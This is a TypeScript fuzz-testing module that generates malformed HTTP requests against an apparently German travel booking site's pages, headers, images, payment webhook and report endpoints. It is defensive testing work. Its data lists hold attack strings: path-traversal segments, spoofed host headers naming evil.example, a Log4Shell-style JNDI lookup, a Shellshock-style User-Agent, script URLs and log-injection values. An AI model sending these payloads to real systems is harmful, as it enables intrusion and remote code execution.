import { createHmac } from 'node:crypto'
import fc, { type Arbitrary } from 'fast-check'
import { damaged, hostileText, hostileValue, toText } from './hostileJson.ts'
import {
  address,
  bytesOf,
  commonHeaders,
  type HeaderLines,
  JSON_TYPE,
  type Kind,
  PUBLIC_URL,
  sent,
  whole,
} from './input.ts'
import type { FuzzContext } from './fuzzContext.ts'

/** A text as part of an address: escaped, half escaped, or only as far as it has to be for a request to hold it. */
function escapedIn(text: Arbitrary<string>): Arbitrary<string> {
  return fc.tuple(text, fc.constantFrom('all', 'bare', 'twice', 'slashes')).map(([plain, how]) => {
    const all = [...Buffer.from(plain.slice(0, 2_000))].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')
    if (how === 'all') return all
    if (how === 'twice') return all.replaceAll('%', '%25')
    const bare = plain
      .slice(0, 7_000)
      .replaceAll(/[^!-~]/g, (sign) => [...Buffer.from(sign)].map((byte) => `%${byte.toString(16)}`).join(''))
    return how === 'slashes' ? bare.replaceAll('/', '%2f') : bare
  })
}

const odd: Arbitrary<string> = escapedIn(hostileText)

const SEGMENTS = [
  '..',
  '.',
  '%2e%2e',
  '..%2f',
  '%2f',
  '%5c',
  '%00',
  '%',
  '%zz',
  '%c3',
  '%ed%a0%80',
  '%0a',
  '%0d',
  '%e2%80%a9',
  '~',
  '*',
  ';a=b',
  '@',
  ':',
  '//',
  '[',
  '{x}',
  '.env',
  '.git',
  '.data',
  'index.html',
  '__manifest',
  '_root.data',
] as const

const PLACES = [
  '/',
  '/reisen',
  '/recherche',
  '/search',
  '/auftrag',
  '/sitemap.xml',
  '/robots.txt',
  '/site.webmanifest',
  '/szenarien',
  '/livez',
  '/readyz',
  '/healthz',
  '/metrics',
  '/api/proxy',
  '/api/analytics',
  '/api/errors',
  '/api/vitals',
  '/assets/',
  '/bilder/',
  '/sandbox-zahlung/v1/start/',
  '/favicon.ico',
  '/__manifest',
  '/_root.data',
  '/reisen.data',
  '/build/host/main.js',
  '/.env',
  '/.data/platform.db',
  '/package.json',
] as const

const STEPS = [
  'start',
  'verlaengerung',
  'leistungen',
  'personen',
  'zusatzleistungen',
  'zahlung',
  'online-zahlung',
  'bestaetigung',
  '',
] as const

function pathOf({ paths, travels, script }: FuzzContext): Arbitrary<string> {
  const known = fc.oneof(
    fc.constantFrom(...PLACES, script),
    fc.constantFrom(...paths),
    fc
      .tuple(fc.constantFrom(...travels), fc.constantFrom(...STEPS))
      .map(([travel, step]) => `/buchen/${travel}/${step}`),
  )
  const piece = fc.oneof(fc.constantFrom(...SEGMENTS), odd)
  const changed = fc
    .tuple(known, fc.nat(6), piece, fc.constantFrom('replace', 'insert', 'append', 'double'))
    .map(([path, place, text, how]) => {
      const segments = path.split('/')
      const at = 1 + (place % Math.max(segments.length - 1, 1))
      if (how === 'append') return `${path}${text}`
      if (how === 'double') return path.replaceAll('/', '//')
      segments.splice(at, how === 'replace' ? 1 : 0, text)
      return segments.join('/')
    })
  const end = fc.constantFrom('', '', '', '', '/', '.data', '/text', '.br', '.map', '/..;/', '?', '%20')
  const path = fc.oneof(
    { weight: 3, arbitrary: known },
    { weight: 5, arbitrary: changed },
    { weight: 1, arbitrary: fc.tuple(piece, piece, piece).map((parts) => `/${parts.join('/')}`) },
  )
  return fc.tuple(path, end).map(([begin, rest]) => (begin.startsWith('/') ? begin : `/${begin}`) + rest)
}

const PARAMETERS = [
  'destinations',
  'travelTypes',
  'months',
  'query',
  'q',
  'ansicht',
  'seiten',
  'variante',
  'datum',
  'verlaengerung',
  'zahlung',
  'transaktion',
  'scenario',
  '_routes',
  'index',
  'p',
  'paths',
  'version',
  'utm_source',
  'gclid',
  'w',
  'r',
  'f',
  'v',
  'aktion',
  '__proto__',
  'toString',
  '',
  'destinations[]',
  'destinations[a]',
] as const

const VALUES = [
  'frankreich',
  'frankreich|italien',
  '|',
  '||||',
  '%7C',
  '2027-05',
  '2027-13',
  'badeferien',
  'kalender',
  '320',
  '-1',
  '1e9',
  'NaN',
  'routes/travelList',
  'root',
  '/reisen,/buchen',
  '480',
  '4x5',
  'avif',
  'erfolg',
] as const

const parameter = fc.tuple(
  fc.oneof({ weight: 8, arbitrary: fc.constantFrom(...PARAMETERS) }, odd),
  fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...VALUES) }, { weight: 4, arbitrary: odd }),
)

const query: Arbitrary<string> = fc.oneof(
  {
    weight: 5,
    arbitrary: fc
      .array(parameter, { maxLength: 4 })
      .map((pairs) => pairs.map(([name, value]) => `${name}=${value}`).join('&')),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(parameter, fc.constantFrom(10, 200, 900))
      .map(([[name, value], count]) =>
        Array.from({ length: count }, (_, place) => `${name}=${value.slice(0, 5)}${place % 7}`).join('&'),
      ),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...PARAMETERS), fc.constantFrom('a', '|', '%20', '+', '%', 'a|', '%7C', 'x%00'))
      .map(([name, unit]) => `${name}=${unit.repeat(Math.floor(7_800 / unit.length))}`),
  },
  { weight: 1, arbitrary: odd },
)

/** An address as long as a request holds. */
const LONGEST_TARGET = 8_192

function targetOf(known: FuzzContext): Arbitrary<string> {
  return fc
    .tuple(pathOf(known), query)
    .map(([path, rest]) => (rest === '' ? path : `${path}?${rest}`).slice(0, LONGEST_TARGET))
}

const METHODS = [
  'GET',
  'GET',
  'GET',
  'GET',
  'GET',
  'GET',
  'HEAD',
  'POST',
  'POST',
  'PUT',
  'DELETE',
  'OPTIONS',
  'TRACE',
  'PROPFIND',
  'MKCOL',
  'COPY',
] as const

/** Pages and everything else that has an address, with hostile paths, parameters and methods. */
export const pages: Kind = (known) =>
  fc
    .tuple(address, targetOf(known), fc.constantFrom(...METHODS), fc.option(hostileText))
    .map(([from, target, method, body]) => {
      const headers: HeaderLines = [['Accept', 'text/html']]
      return whole('page', {
        method,
        target,
        common: commonHeaders(from),
        headers,
        ...(body === null || method === 'HEAD' ? {} : { body: body.slice(0, 100_000) }),
      })
    })

const HEADERS: Readonly<Record<string, readonly string[]>> = {
  Host: [
    '',
    'evil.example',
    'user@reisen.example',
    'reisen.example:99999',
    'reisen.example:',
    '[::1]',
    '[',
    'a b',
    '..',
    'reisen.example/x',
    'reisen.example#',
    '127.0.0.1',
    'xn--',
    'a'.repeat(300),
  ],
  'X-Forwarded-Host': [
    'evil.example',
    'evil.example, reisen.example',
    '',
    'a/b',
    '\\',
    'user@evil.example',
    'evil.example:x',
  ],
  'X-Forwarded-Proto': ['javascript', 'https,http', '', 'HTTPS', 'ftp', 'x:y', 'http'],
  'X-Forwarded-For': [
    '',
    'unknown',
    '::1',
    '127.0.0.1',
    '999.1.1.1',
    '1.2.3.4, 5.6.7.8',
    'a'.repeat(2_000),
    '1.2.3.4,'.repeat(500),
    'fe80::1%eth0',
    '[2001:db8::1]:1',
  ],
  Forwarded: ['for=1.2.3.4;host=evil.example;proto=javascript'],
  'X-Original-URL': ['/admin'],
  'X-HTTP-Method-Override': ['DELETE'],
  Cookie: [
    '=',
    ';;;',
    'session_id=',
    'acquisition=%',
    'acquisition={"a":',
    'session_id=a; session_id=b',
    '__proto__=x',
    `a=${'b'.repeat(6_000)}`,
    'a=b;'.repeat(1_500),
    'a="\\"',
    'consent=%zz',
  ],
  'Accept-Language': ['', '*', 'de-CH,de;q=0.9', 'x'.repeat(5_000), 'de;q=nonsense', '-', 'en;q=1e999', ',,,,'],
  'Accept-Encoding': [
    '',
    '*',
    'br;q=0',
    'identity;q=0',
    'gzip;q=2',
    'br, gzip, deflate',
    '*;q=0',
    'zstd',
    'a'.repeat(3_000),
    ';q=,'.repeat(900),
  ],
  Accept: ['', '*/*', 'image/avif', 'image/avif;q=0', 'text/x-component', 'a/b;'.repeat(2_000)],
  'If-None-Match': ['*', '"', 'W/""', 'W/"x", '.repeat(900), 'a'.repeat(5_000)],
  'If-Modified-Since': ['nonsense', 'Thu, 01 Jan 1970 00:00:00 GMT', '9'.repeat(500)],
  'If-Range': ['"x"', 'nonsense'],
  Range: [
    'bytes=0-0',
    'bytes=-1',
    'bytes=0-',
    'bytes=9-1',
    'bytes=0-0,1-1,2-2',
    'items=1-2',
    'bytes=99999999999999999999-',
    `bytes=${'0-1,'.repeat(900)}2-3`,
  ],
  'x-scenario': ['slow-platform', '', 'nonsense', 'lost-answer-after-booking;1', '__proto__'],
  traceparent: ['00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01', '00-0-0-0', 'ff-', 'x'.repeat(3_000)],
  tracestate: ['a=b', 'x'.repeat(3_000), ',,,='],
  'x-request-id': ['abc', '', 'a'.repeat(3_000), '"},"level":60,"x":"', '../../x', '{"a":1}'],
  Origin: ['null', 'https://evil.example', 'nonsense'],
  Referer: ['javascript:alert(1)', '//', 'a'.repeat(4_000)],
  'User-Agent': ['', 'a'.repeat(8_000), 'Googlebot/2.1', '${jndi:ldap://evil.example/a}', '() { :; }; /bin/true'],
  Authorization: ['Basic !!!', 'Bearer '.concat('a'.repeat(4_000))],
  'Sec-Fetch-Site': ['cross-site', 'x'],
  'Content-Type': ['', 'text/html', 'x'],
  'Content-Encoding': ['gzip', 'x'],
  'Transfer-Encoding': ['identity'],
  'Early-Data': ['1'],
  'X-Long': ['a'.repeat(13_000), 'a'.repeat(16_300), 'a'.repeat(17_000)],
}

const headerLine = fc.oneof(
  {
    weight: 8,
    arbitrary: fc
      .constantFrom(...Object.entries(HEADERS))
      .chain(([name, values]) => fc.constantFrom(...values).map((value) => [name, value] as const)),
  },
  {
    weight: 3,
    arbitrary: fc.tuple(fc.constantFrom(...Object.keys(HEADERS)), hostileText).map(
      ([name, text]) =>
        [
          name,
          Buffer.from(text.slice(0, 6_000))
            .toString('latin1')
            .replaceAll(/[\0\r\n]/g, '?'),
        ] as const,
    ),
  },
)

/** Requests for existing pages, with hostile headers. */
export const headers: Kind = (known) => {
  const targets = fc.oneof(
    fc.constantFrom(...PLACES, known.script),
    fc.constantFrom(...known.paths),
    fc.constantFrom(...known.pictures).map((id) => `/bilder/${id}?w=320&f=jpeg`),
  )
  return fc
    .tuple(
      address,
      targets,
      fc.array(headerLine, { minLength: 1, maxLength: 4 }),
      fc.constantFrom('GET', 'GET', 'GET', 'HEAD', 'POST'),
    )
    .map(([from, target, lines, method]) => {
      // The last one said counts in some servers, the first in others: both orders come.
      const names = new Set(lines.map(([name]) => name))
      const common = commonHeaders(from).filter(([name]) => !names.has(name) || lines.length > 3)
      // Two hosts, lengths or encodings are refused before anybody sees them, without an answer to a HEAD.
      return sent('headers', [bytesOf({ method, target, common, headers: lines })], { mayStaySilent: false })
    })
}

const WIDTHS = [
  '160',
  '320',
  '480',
  '640',
  '160',
  '320',
  '1200',
  '1600',
  '161',
  '0',
  '-1',
  'NaN',
  '',
  '4800000000',
] as const

/** Pictures in every size and format, and in those there are none of. */
export const pictures: Kind = (known) => {
  const id = fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...known.pictures) }, odd, fc.constantFrom(...SEGMENTS))
  const options = fc.record(
    {
      w: fc.constantFrom(...WIDTHS),
      r: fc.constantFrom('4x5', '16x9', '1x1', '1200x630', '4x', 'x', '__proto__'),
      f: fc.constantFrom('avif', 'webp', 'jpeg', 'jpg', 'png', 'svg', ''),
      v: fc.constantFrom('1', '', 'x'),
    },
    { requiredKeys: [] },
  )
  const accept = fc.constantFrom('image/avif', 'image/webp,*/*', '*/*', '', 'nonsense')
  return fc
    .tuple(address, id, options, accept, fc.constantFrom('GET', 'GET', 'GET', 'HEAD', 'POST'))
    .map(([from, publicId, chosen, type, method]) => {
      const target = `/bilder/${publicId}?${Object.entries(chosen)
        .map(([name, value]) => `${name}=${value}`)
        .join('&')}`
      return whole('picture', {
        method,
        target: target.slice(0, LONGEST_TARGET),
        common: commonHeaders(from),
        headers: [['Accept', type]],
      })
    })
}

/** A text as a form carries it, where half a letter is none. */
function formText(text: string): string {
  return encodeURIComponent(Buffer.from(text).toString())
}

const FORM: HeaderLines[number] = ['Content-Type', 'application/x-www-form-urlencoded']

/** The payment page and where a payment provider reports to. */
export const payments: Kind = ({ transactionIds }) => {
  const id = fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...transactionIds) }, { weight: 2, arbitrary: odd })
  const action = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom('nichts', '', 'BEZAHLEN', '__proto__', 'toString', 'abbrechen ') },
    hostileText,
  )
  const form = fc.oneof(
    { weight: 4, arbitrary: action.map((word) => `aktion=${formText(word.slice(0, 1_200))}`) },
    {
      weight: 1,
      arbitrary: action.map((word) =>
        Array.from({ length: 50 }, () => `aktion=${formText(word.slice(0, 8))}`).join('&'),
      ),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        'aktion=bezahlen'.repeat(100),
        'a'.repeat(1_000),
        'b'.repeat(1_001),
        'c'.repeat(1024 * 1024),
        '%',
        '&&&',
        'aktion',
        '\0',
      ),
    },
  )
  const page = fc
    .tuple(
      address,
      id,
      form,
      fc.constantFrom('GET', 'HEAD', 'POST', 'POST', 'POST'),
      fc.constantFrom('', '/', '?a=b', '/x', '%00', '/../x'),
    )
    .map(([from, name, body, method, end]) => {
      const target = `/sandbox-zahlung/v1/start/${name}${end}`.slice(0, LONGEST_TARGET)
      return whole('payment', {
        method,
        target,
        common: commonHeaders(from),
        headers: [FORM],
        ...(method === 'POST' ? { body } : {}),
      })
    })
  const message = {
    transactionId: transactionIds[0],
    status: 'settled',
    refno: 'CR-2026-000001',
    currency: 'CHF',
    detail: { settle: { amount: 129_000 } },
  }
  const report = fc.oneof({ weight: 4, arbitrary: damaged(message).map(toText) }, hostileText)
  const signature = fc.oneof(
    { weight: 3, arbitrary: fc.constant(null) },
    fc.constantFrom(
      '',
      't=1,s0=00',
      't=1759000000,s0='.concat('0'.repeat(64)),
      'nonsense',
      's0',
      `t=${'9'.repeat(400)},s0=zz`,
    ),
  )
  const webhook = fc
    .tuple(
      address,
      fc.constantFrom('', '/', '?x=1', '/x'),
      report,
      signature,
      fc.constantFrom('POST', 'POST', 'POST', 'GET'),
    )
    .map(([from, end, body, wrong, method]) => {
      const headers: HeaderLines = [JSON_TYPE, ['Datatrans-Signature', wrong ?? signed(body)]]
      return whole('payment', {
        method,
        target: `/api/payment/webhook${end}`,
        common: commonHeaders(from),
        headers,
        body,
      })
    })
  return fc.oneof({ weight: 3, arbitrary: page }, { weight: 2, arbitrary: webhook })
}

/** With which the payment provider of these tests signs. */
export const WEBHOOK_KEY = '5ec4e7'.repeat(10)

function signed(body: string): string {
  const time = String(Date.now())
  return `t=${time},s0=${createHmac('sha256', Buffer.from(WEBHOOK_KEY, 'hex')).update(time).update(Buffer.from(body)).digest('hex')}`
}

/** Analytics hits of pages, mutated. */
export const relay: Kind = ({ paths }) => {
  const hit = {
    url: `${PUBLIC_URL}${paths[0] ?? '/'}`,
    title: 'Reisen',
    referrer: null,
    search: null,
    event: null,
    travelId: null,
  }
  const body = fc.oneof(
    { weight: 6, arbitrary: damaged(hit).map(toText) },
    {
      weight: 3,
      arbitrary: fc
        .tuple(fc.constantFrom(...Object.keys(hit)), hostileText)
        .map(([name, text]) => toText({ ...hit, [name]: text })),
    },
    { weight: 1, arbitrary: hostileValue.map((value) => value.text) },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom(8 * 1024 - 200, 8 * 1024, 64 * 1024)
        .map((bytes) => JSON.stringify(hit) + ' '.repeat(bytes)),
    },
    { weight: 1, arbitrary: fc.nat(100).map((length) => JSON.stringify(hit).slice(0, length)) },
  )
  return fc
    .tuple(address, body, fc.constantFrom('POST', 'POST', 'POST', 'GET', 'PUT'), fc.array(headerLine, { maxLength: 1 }))
    .map(([from, text, method, lines]) => {
      const named = new Set(lines.map(([name]) => name.toLowerCase()))
      const common = [...commonHeaders(from), JSON_TYPE].filter(([name]) => !named.has(name.toLowerCase()))
      return whole('relay', { method, target: '/api/analytics', common, headers: lines, body: text })
    })
}

const FAILURE = {
  kind: 'error',
  message: 'x is not a function',
  frames: ['/assets/a.js:1:2'],
  page: '/reisen',
  build: 'abc123',
}
const BREACH = {
  'csp-report': {
    'document-uri': `${PUBLIC_URL}/reisen`,
    'effective-directive': 'img-src',
    'blocked-uri': 'https://evil.example/a.png',
    'source-file': '',
  },
}
const BREACHES = [
  {
    type: 'csp-violation',
    body: {
      documentURL: `${PUBLIC_URL}/reisen`,
      effectiveDirective: 'script-src',
      blockedURL: 'inline',
      sourceFile: '',
    },
  },
]
const VISIT = { page: '/reisen', values: { LCP: 900, INP: 20, CLS: 0.01, TTFB: 80 } }

/** Reports of browsers, mutated. */
export const reports: Kind = () => {
  const good = fc.constantFrom(
    { target: '/api/errors', type: 'application/json', body: FAILURE },
    { target: '/api/errors', type: 'application/csp-report', body: BREACH },
    { target: '/api/errors', type: 'application/reports+json', body: BREACHES },
    { target: '/api/vitals', type: 'application/json', body: VISIT },
  )
  return fc
    .tuple(address, good, fc.constantFrom('POST', 'POST', 'POST', 'POST', 'GET'))
    .chain(([from, { target, type, body }, method]) =>
      fc
        .oneof(
          { weight: 6, arbitrary: damaged(body).map(toText) },
          hostileValue.map((value) => value.text),
          hostileText,
        )
        .map((text) =>
          whole('report', {
            method,
            target,
            common: commonHeaders(from),
            headers: [['Content-Type', type]],
            body: text,
          }),
        ),
    )
}

/** Requests of monitoring. */
export const health: Kind = () =>
  fc
    .tuple(
      address,
      fc.constantFrom('/livez', '/readyz', '/healthz', '/metrics'),
      fc.oneof(fc.constantFrom('', '/', '?a', '.json', '/..', '%00', '//', '/a/b', '?verbose'), odd),
      fc.constantFrom(...METHODS),
    )
    .map(([from, path, end, method]) =>
      whole('health', { method, target: `${path}${end}`.slice(0, LONGEST_TARGET), common: commonHeaders(from) }),
    )
